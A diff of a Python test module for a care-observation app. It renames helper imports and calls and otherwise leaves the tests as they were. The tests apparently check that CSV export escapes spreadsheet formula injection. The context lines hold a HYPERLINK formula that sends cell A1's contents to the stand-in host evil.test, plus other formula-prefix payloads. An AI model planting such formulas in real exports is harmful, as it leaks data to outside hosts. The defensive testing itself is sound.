@@ -23,11 +23,12 @@ from careobs.csv_cells import spreadsheet_safe
 from careobs.dashboards.tables import Column, Table
 from careobs.export.writers import RowWriter
 from careobs.org.models import StaffMember
-from tests.api.conftest import iso, quis_doc
-from tests.conftest import Auth
-from tests.export.conftest import _post_as, _sync_as
 from tests.factories import OrgData
-from tests.spotchecks.conftest import PLANNED, action, checklist_info, spot_check
+from tests.support.export import post_form_as, sync_as_user
+from tests.support.quis import quis_doc
+from tests.support.sync import iso
+from tests.support.visits import PLANNED, action, checklist_info, spot_check
+from tests.support.web import Auth
 
 LINK = '=HYPERLINK("http://evil.test/?d="&A1,"Open")'
 DANGEROUS = [LINK, "+1", "-2+3", "@SUM(1)", "\tx", "\rx"]
@@ -111,16 +112,16 @@ def hostile(app, db, data) -> Hostile:
         to_develop="-2+3",
         actions=[action(worker, description=LINK)],
     )
-    _sync_as(app, acme.supervisor, quis, visit)
+    sync_as_user(app, acme.supervisor, quis, visit)
     addendum = {"reason": "-2+3", "text": "=1+1"}
-    _post_as(app, acme.supervisor, f"/quis/sessions/{quis['id']}", addendum)
+    post_form_as(app, acme.supervisor, f"/quis/sessions/{quis['id']}", addendum)
     team = {
         "staff": [acme.staff_members["Carla Carer"].uuid.hex],
         "went_well": "@SUM(1)",
         "to_develop": "",
         "send": "1",
     }
-    _post_as(app, acme.supervisor, f"/feedback/team/{quis['id']}", team)
+    post_form_as(app, acme.supervisor, f"/feedback/team/{quis['id']}", team)
     db.expire_all()
     return Hostile(acme, worker, quis, visit)
 
